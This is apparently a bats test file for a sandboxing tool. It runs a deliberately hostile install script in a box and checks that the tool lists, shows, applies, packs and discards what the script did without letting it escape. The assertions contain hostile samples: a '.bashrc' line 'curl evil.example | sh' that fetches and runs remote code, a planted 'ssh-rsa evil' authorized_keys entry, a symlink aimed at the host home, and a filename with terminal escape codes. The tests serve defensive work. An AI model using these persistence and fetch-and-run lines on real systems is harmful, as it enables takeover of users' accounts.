#!/usr/bin/env bats
# sandbox-patterns(7), installation: a hostile install script, from trying it to applying and
# packing the result.

load helpers
load oracle

setup() {
	sandbox_setup
	cp -a "$SOURCE/tests/patterns/install" "$T/p"
	chmod -R u+w "$T/p"
	plant
	mkdir -p home/.local/share
	echo secret >"$T/home/secret"
}

teardown() {
	clear_canaries
	sandbox_teardown
}

install_in_box() { # COMMAND [WORD]
	sandbox "$1" --quiet --env HOST_PORT="$port" --env HOST_SECRET="$T/home/secret" --env HOST_HOME="$T/home" "$T/p" -- sh /src/install.sh "${@:2}"
}

for_each() { # what the script did, and nothing more
	run -0 sandbox diff "$T/p"
	for line in '  A /etc/tool.conf' '! A /root/.bashrc' '! A /root/.config/autostart/tool.desktop' \
		'  A /usr/local/bin/tool (set-id)' '  A /usr/local/bin/tool-1.0 -> tool' \
		"  A /usr/local/share/doc -> $T/home" '  A /usr/local/share/pipe (FIFO)' \
		'  A /usr/local/share/a\n\x1b[2Jname'; do
		grep -qxF -- "$line" <<<"$output" || { echo "not listed: $line"; echo "$output"; return 1; }
	done
	run ! grep -e online -e stolen -e /src <<<"$output"
}

@test "the script is root of a box, and everything it did can be listed, shown, applied, packed and discarded" {
	port=$((20000 + RANDOM % 20000))
	listen $port
	[ "$(install_in_box try)" = installed ]
	for_each
	unheard
	unharmed
	cmp p/install.sh "$SOURCE/tests/patterns/install/install.sh"
	says_nothing find p/staging -type f ! -name .keep
	[ ! -e p/.git ]

	# Shown.
	run -0 sandbox diff --patch "$T/p" -- /etc /root
	[[ $output = *$'+++ b/etc/tool.conf\n@@ -0,0 +1 @@\n+level = high'* ]]
	[[ $output = *$'+++ b/root/.bashrc\n'*'+curl evil.example | sh'* ]]

	# Applied: the program without its set-id bit, only for this user.
	sandbox apply --quiet --yes --from /usr/local --to "$HOME/.local" "$T/p" >listed
	[ "$("$HOME/.local/bin/tool-1.0")" = 'tool 1.0' ]
	[ "$(stat -c %a "$HOME/.local/bin/tool")" = 755 ]
	[ ! -e "$HOME/.local/share/pipe" ]
	[ ! -e "$HOME/.bashrc" ]
	run ! grep -q $'\033' listed

	# The next round cannot get out through the symlink of the first.
	[ "$(install_in_box try again)" = installed ]
	fails 125 "*cannot apply '/usr/local/share/doc' to '$HOME/.local/share/doc': it is a directory in the box, and none on the host*" \
		sandbox apply --quiet --yes --from /usr/local --to "$HOME/.local" "$T/p"
	[ ! -e "$HOME/.ssh" ]

	# Packed.
	sandbox apply --quiet --tar tool.tar --from /usr/local "$T/p"
	mkdir unpacked
	tar xf tool.tar -C unpacked
	[ "$(unpacked/bin/tool)" = 'tool 1.0' ]
	[ "$(cat unpacked/share/doc/.ssh/authorized_keys)" = 'ssh-rsa evil' ]

	# Discarded.
	sandbox discard --force "$T/p"
	says_nothing sandbox ls --names
	unheard
	unharmed
}

@test "enter with the same profile: the box is kept, with the same content" {
	port=1
	[ "$(install_in_box enter)" = installed ]
	for_each
	# To the staging directory itself, to be continued by hand.
	sandbox apply --quiet --yes "$T/p" >/dev/null
	[ "$(p/staging/bin/tool)" = 'tool 1.0' ]
	says_nothing sandbox diff "$T/p" -- /usr/local
	[ "$(sandbox enter --quiet "$T/p" -- tool)" = 'tool 1.0' ]
	unharmed
}
